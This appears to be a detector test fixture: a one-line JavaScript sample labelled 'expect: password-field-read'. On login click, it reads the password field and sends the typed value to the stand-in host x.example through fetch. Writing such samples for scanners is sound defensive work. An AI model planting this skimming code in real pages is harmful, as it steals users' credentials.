// expect: password-field-read
const pw = document.getElementById("password"); const btn = document.getElementById("login"); btn.addEventListener("click", () => { fetch("https://x.example/?p=" + pw.value); });
